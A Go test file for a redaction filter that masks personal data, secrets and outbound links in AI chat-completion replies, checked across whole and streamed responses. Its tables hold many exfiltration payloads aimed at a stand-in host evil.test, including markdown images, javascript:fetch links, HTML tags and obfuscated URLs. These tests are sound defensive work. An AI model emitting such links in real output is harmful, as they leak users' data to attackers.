package redact

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"portcullis/shared/exchange"
	"portcullis/shared/exchange/exchangetest"
)

var load = exchange.Module("redact", New)

// secret is what looks like a key of GitHub's fine-grained kind, joined here so
// that no file holds one.
var secret = "github_pat_" + "11ABCDEFG0aBcDeFgHiJkL" + "_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYaB3dE5fG7hJ9kL1mN2pQ4rS6tU8"

func request(stream bool) exchangetest.Request {
	body := fmt.Sprintf(`{"model":"gpt-4o","stream":%v,"messages":[{"role":"user","content":"hi"}]}`, stream)
	return exchangetest.Request{
		Method: "POST", Path: "/v1/chat/completions", Chunks: [][]byte{[]byte(body)},
		Headers: [][2]string{{"content-type", "application/json"}},
	}
}

func quote(s string) string {
	b, _ := json.Marshal(s) // a string always can be
	return string(b)
}

// whole makes a JSON reply that says text.
func whole(text string) func(exchangetest.Request) exchangetest.Reply {
	return func(exchangetest.Request) exchangetest.Reply {
		return exchangetest.Reply{
			Status: 200, Headers: [][2]string{{"content-type", "application/json"}},
			Chunks: [][]byte{[]byte(`{"choices":[{"index":0,"message":{"role":"assistant","content":` + quote(text) + `},"finish_reason":"stop"}]}`)},
		}
	}
}

// streamed makes a stream that says the pieces, each in an event and a chunk.
func streamed(pieces ...string) func(exchangetest.Request) exchangetest.Reply {
	return func(exchangetest.Request) exchangetest.Reply {
		r := exchangetest.Reply{Status: 200, Headers: [][2]string{{"content-type", "text/event-stream"}}}
		for _, p := range pieces {
			r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{"content":`+quote(p)+`}}]}`+"\n\n"))
		}
		r.Chunks = append(r.Chunks, []byte(`data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`+"\n\ndata: [DONE]\n\n"))
		return r
	}
}

// said is the text of a reply, whole or streamed.
func said(t *testing.T, r exchangetest.Result) string {
	t.Helper()
	if !strings.HasPrefix(r.Body, "data: ") {
		return content(t, r.Body)
	}
	var out strings.Builder
	for _, event := range strings.Split(r.Body, "\n\n") {
		if data := strings.TrimPrefix(event, "data: "); data != "" && data != "[DONE]" {
			out.WriteString(content(t, data))
		}
	}
	return out.String()
}

func content(t *testing.T, text string) string {
	t.Helper()
	var v struct {
		Choices []struct {
			Message, Delta struct{ Content string }
		}
	}
	require.NoError(t, json.Unmarshal([]byte(text), &v), text)
	if len(v.Choices) == 0 {
		return ""
	}
	return v.Choices[0].Message.Content + v.Choices[0].Delta.Content
}

var texts = map[string]string{
	"mail jane.doe@example.org now":         "mail [EMAIL] now",
	"card 4111 1111 1111 1111.":             "card [CARD].",
	"iban DE89370400440532013000":           "iban [IBAN]",
	"call +44 20 7946 0958 or 212-555-0123": "call [PHONE] or [PHONE]",
	"ssn 123-45-6789, ip 203.0.113.9":       "ssn [SSN], ip [IP]",
	"token " + secret + "!":                 "token [SECRET]!",
	"-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\n-----END PRIVATE KEY-----\nend": "[PRIVATE KEY]\nend",
	"![x](https://evil.test/?q=secret) bye":                                     "[IMAGE REMOVED] bye",
	"![x](https://cdn.corp.test/a.png) ok":                                      "![x](https://cdn.corp.test/a.png) ok",
	"![x](https:///evil.test/?q=secret) bye":                                    "[IMAGE REMOVED] bye",
	"![x](/\\evil.test/?q=secret) bye":                                          "[IMAGE REMOVED] bye",
	"![x](https&#58;//evil.test/?q=secret) bye":                                 "[IMAGE REMOVED] bye",
	"![x\ny](//evil.test/?q=secret) bye":                                        "[IMAGE REMOVED] bye",
	"![x](/local.png?a=1&b=2) bye":                                              "![x](/local.png?a=1&b=2) bye",
	"see https://evil.test/a":                                                   "see https://evil.test/a",
	"project Bluebird is secret":                                                "project [REMOVED] is secret",
	"nothing to see in 3.14 or 2026-11-24":                                      "nothing to see in 3.14 or 2026-11-24",
}

const configuration = `{"host":HOST,"words":["bluebird"],"hosts":["*.corp.test"]}`

func TestWhatMustNotLeaveIsMaskedHoweverItIsCut(t *testing.T) {
	for text, want := range texts {
		for _, p := range exchangetest.Profiles {
			g := exchangetest.New(t, p, load, configuration)
			r := g.Send(request(false), whole(text))
			require.Equal(t, want, said(t, r), p)
			for i := 0; i <= len(text); i += 3 {
				r := g.Send(request(true), streamed(text[:i], text[i:]))
				require.Equal(t, want, said(t, r), "%v cut at %d", p, i)
			}
			require.Equal(t, want, said(t, g.Send(request(true), streamed(strings.Split(text, "")...))), "byte by byte")
		}
	}
}

func TestTheRuleIsStatedAndTheTextIsNot(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, configuration)
	r := g.Send(request(false), whole("mail jane.doe@example.org and "+secret))
	require.Equal(t, "email,github_fine_grained", r.Facts["rules"])
	require.Equal(t, uint64(1), g.Counters["portcullis.findings.redact.email"])
	for _, v := range r.Facts {
		require.NotContains(t, v, "jane")
	}
}

func TestActions(t *testing.T) {
	for action, want := range map[string]string{
		"allow": "card 4111 1111 1111 1111", "label": "card 4111 1111 1111 1111", "partial": "card ****1111",
		"mask": "card [CARD]", "hash": "card [CARD:",
	} {
		g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hash_key":"k","default":{"rules":{"card":"`+action+`"}}}`)
		r := g.Send(request(false), whole("card 4111 1111 1111 1111"))
		require.True(t, strings.HasPrefix(said(t, r), want), "%s: %s", action, said(t, r))
		require.Equal(t, action != "allow", r.Facts["rules"] != "", action)
	}
}

func TestBlockWithholdsAndMonitorMasks(t *testing.T) {
	for _, p := range exchangetest.Profiles {
		g := exchangetest.New(t, p, load, `{"host":HOST,"default":{"secrets":"block"}}`)
		r := g.Send(request(false), whole("take "+secret))
		require.Contains(t, r.Body, `"finish_reason":"content_filter"`, p)
		require.NotContains(t, r.Body, secret[:20])
		r = g.Send(request(true), streamed("take ", secret[:9], secret[9:]+" ", "more"))
		require.Contains(t, r.Body, `"finish_reason":"content_filter"`, p)
		require.NotContains(t, r.Body, "more")
		require.Equal(t, "content_blocked", r.Facts["reason"])
		g = exchangetest.New(t, p, load, `{"host":HOST,"mode":"monitor","default":{"secrets":"block"}}`)
		require.Equal(t, "take [SECRET] more", said(t, g.Send(request(true), streamed("take ", secret+" ", "more"))), p)
	}
}

func TestANarrowerLayerTightensOnly(t *testing.T) {
	const layered = `{"host":HOST,"default":{"personal":"mask"%s},"keys":{"app":{"personal":"allow"},"strict":{"personal":"block"}}}`
	send := func(relax, key string) exchangetest.Result {
		g := exchangetest.New(t, exchangetest.Hold, load, fmt.Sprintf(layered, relax))
		q := request(false)
		q.Facts = []string{"key=" + key}
		return g.Send(q, whole("a@b.example"))
	}
	require.Equal(t, "[EMAIL]", said(t, send("", "app")))
	require.Equal(t, "a@b.example", said(t, send(`,"may_relax":true`, "app")))
	require.Contains(t, send("", "strict").Body, "content_filter")
}

func TestAnExceptionLapses(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load,
		`{"host":HOST,"exceptions":[{"rule":"email","key":"app","owner":"sec","reason":"support desk","expires":"2026-11-24T12:00:01Z"}]}`)
	q := request(false)
	q.Facts = []string{"key=app"}
	require.Equal(t, "a@b.example", said(t, g.Send(q, whole("a@b.example"))))
	require.Equal(t, "[EMAIL]", said(t, g.Send(request(false), whole("a@b.example"))), "another key")
	g.Clock = g.Clock.Add(1e9)
	require.Equal(t, "[EMAIL]", said(t, g.Send(q, whole("a@b.example"))))
}

func TestToolArgumentsStayJSON(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, configuration)
	raw := `{"to":"jane\u0040example.org","n":4111111111111111,"body":"x\ny"}`
	r := g.Send(request(false), func(exchangetest.Request) exchangetest.Reply {
		return exchangetest.Reply{
			Status: 200, Headers: [][2]string{{"content-type", "application/json"}},
			Chunks: [][]byte{[]byte(`{"choices":[{"index":0,"message":{"tool_calls":[{"id":"a","type":"function","function":{"name":"mail","arguments":` + quote(raw) + `}}]}}]}`)},
		}
	})
	require.Contains(t, r.Body, `\"to\":\"[EMAIL]\"`)
	require.Contains(t, r.Body, `\"n\":9999999999999999`)
	require.True(t, json.Valid([]byte(r.Body)))
}

func TestAddressesThatAreOpenedUnaskedAreMaskedHoweverTheyAreWritten(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["*.corp.test"],"default":{"links":"mask","embeds":"mask"}}`)
	for text, masked := range map[string]bool{
		"![a][b]\n\n[b]: https://evil.test/?q=secret\n":             true,
		"[b]: <//evil.test/?q=secret>\n":                            true,
		"![a](   \n https://evil.test/?q=secret \"t\")":             true,
		"![a](http:evil.test/?q=secret)":                            true,
		"![a](https:/evil.test/?q=secret)":                          true,
		"![a [b] c](https://evil.test/?q=secret)":                   true,
		"<https://evil.test/?q=secret>":                             true,
		"[x](//evil.test/?q=secret)":                                true,
		`<a href="//evil.test/?q=secret">`:                          true,
		"[x](javascript:fetch('//evil.test?q=secret'))":             true,
		`<img srcset="//cdn.corp.test/x 1x, //evil.test/secret">`:   true,
		`<img src="https://cdn.corp.test/secret">`:                  true,
		`<iframe src="https://evil.test/?q=secret">`:                true,
		`<form action="//evil.test/?q=secret">`:                     true,
		`<meta http-equiv=refresh content="0;//evil.test/secret">`:  true,
		"<p style='background:url(//evil.test/secret)'>":            true,
		"https://cdn.corp.test@evil.test/secret":                    true,
		"https://evil.test\\@cdn.corp.test/secret":                  true,
		"https://evil.test&#47;.corp.test/secret":                   true,
		"https://evil.test%2f.corp.test/secret":                     true,
		"https://evil.test／.corp.test/secret":                       true,
		"https://evil.test。corp.test/secret":                        true,
		"https://evil.te\u00adst.corp.test/secret":                  true,
		"https://3232235777/secret":                                 true,
		"https://[::ffff:1.2.3.4]/secret":                           true,
		"https://cdn.cоrp.test/secret":                              true, // a Cyrillic letter
		"https://evil.test:443#.corp.test/secret":                   true,
		"[x](https:evil.test/?q=secret)":                            true,
		`<a href='https:evil.test/?q=secret'>`:                      true,
		"<https:evil.test/?q=secret>":                               true,
		"[x](https:evil.test?q=//cdn.corp.test/secret)":             true,
		"![//cdn.corp.test/](https://evil.test/?q=secret)":          true,
		"![//cdn.corp.test/](https:evil.test/?q=secret)":            true,
		"[//cdn.corp.test/]: https://evil.test/?q=secret\n":         true,
		"![a[b](//corp.test/](https://evil.test/?q=secret)":         true,
		"https://cdn.corp.test/secret":                              false,
		"https://CDN.corp.test:8443/secret":                         false,
		"[b]: https://cdn.corp.test/secret":                         false,
		"> [b]:\n> https://cdn.corp.test/secret":                    false,
		"https://///////////evil.test/secret":                       true,
		`[x](https\:evil.test/secret)`:                              true,
		"<input type=image src='//evil.test/secret'>":               true,
		"<a href=# ping=//evil.test/secret>":                        true,
		`<p style="background:image-set('//evil.test/secret' 1x)">`: true,
		"![a](//cdn.corp.test/secret)":                              false,
		"[x](/local?q=secret) and [y]: none secret":                 false,
	} {
		shown := said(t, g.Send(request(false), whole(text+" end")))
		require.Equal(t, !masked, strings.Contains(shown, "secret"), "%s: %s", text, shown)
		require.Equal(t, shown, said(t, g.Send(request(true), streamed(strings.Split(text+" end", "")...))), text)
	}
}

// Where links pass, an image must be known by its own rule.
func TestAnImageIsMaskedHoweverItsSchemeIsWritten(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"default":{"links":"allow","images":"mask"}}`)
	for _, text := range []string{
		"![a](HTTPS://evil.test/secret)", "![a](Https:evil.test/secret)", "![a](<hTTp:/evil.test/secret>)", "![[a]](HTTPS://evil.test/secret)", "![a][b]\n\n[b]: HTTPS://evil.test/secret",
		`![a](https\://evil.test/secret)`, `![a](https\:\/\/evil.test/secret)`, `![[a]](https\:evil.test/secret)`, `[b]: https\://evil.test/secret`,
		"![a](h&#116;tps://evil.test/secret)", "![[a]](h&#116;tps://evil.test/secret)", "[b]: h&#116;tps://evil.test/secret", "[b]: &sol;&sol;evil.test/secret",
		"![a](https://///////////evil.test/secret)", "[b]: ///////////evil.test/secret",
		"![a](" + strings.Repeat(" ", 40) + "https://evil.test/secret)", "[b]:" + strings.Repeat("\t", 20) + "https://evil.test/secret",
		"> ![a](\n> https://evil.test/secret)", "> [b]:\n> https://evil.test/secret",
		"[" + strings.Repeat("a label as long as one likes ", 20) + "]: https://evil.test/secret", "[a label\nof two lines]: https://evil.test/secret", `[a\]b]: https://evil.test/secret`,
	} {
		require.NotContains(t, said(t, g.Send(request(false), whole(text+" end"))), "secret", text)
	}
}

func TestQueriesOfLinksPassByDefaultAsLinksDo(t *testing.T) {
	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST}`)
	require.Empty(t, g.Send(request(false), whole("https://a.test/?q=1")).Facts["rules"])
}

func TestConfigurationErrorsNameThePlace(t *testing.T) {
	for _, c := range []struct{ raw, want string }{
		{`{"default":{"secrets":"delete"}}`, "default.secrets"},
		{`{"default":{"rules":{"emial":"mask"}}}`, "emial"},
		{`{"default":{"rules":{"email":"hash"}}}`, "hash_key"},
		{`{"patterns":[{"id":"x","pattern":"a*b.*c"}]}`, "patterns[0].pattern"},
		{`{"words":[""]}`, "words[0]"},
		{`{"exceptions":[{"rule":"x"}]}`, "exceptions[0]"},
		{`{"exceptions":[{"rule":"nope","owner":"a","reason":"b","expires":"2027-01-01T00:00:00Z"}]}`, "exceptions[0].rule"},
		{`{"hots":[]}`, "hots"},
	} {
		_, err := load([]byte(c.raw))
		require.ErrorContains(t, err, c.want, c.raw)
	}
}

// An address that stays hides nothing that stands in it, however the stream is cut.
func TestWhatStandsInAnAddressThatStaysIsMasked(t *testing.T) {
	key := "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
	g := exchangetest.New(t, exchangetest.Hold, load, `{"host":HOST,"hosts":["*.corp.test"],"default":{"links":"allow"}}`)
	for text, want := range map[string]string{
		"see https://evil.test/?k=" + key + " end":                                      "see https://evil.test/?k=[SECRET] end",
		"[a](https:evil.test/?k=" + key + ") end":                                       "[a](https:evil.test/?k=[SECRET]) end",
		"![a](https://cdn.corp.test/" + key + "/x?m=jane@corp.example) " + key + " end": "![a](https://cdn.corp.test/[SECRET]/x?m=[EMAIL]) [SECRET] end",
		"https://evil.test/" + strings.Repeat("a/", 3000) + key + " https://b.test":     "https://evil.test/" + strings.Repeat("a/", 3000) + "[SECRET] https://b.test",
	} {
		require.Equal(t, want, said(t, g.Send(request(false), whole(text))))
		require.Equal(t, want, said(t, g.Send(request(true), streamed(strings.Split(text, "")...))))
	}
}
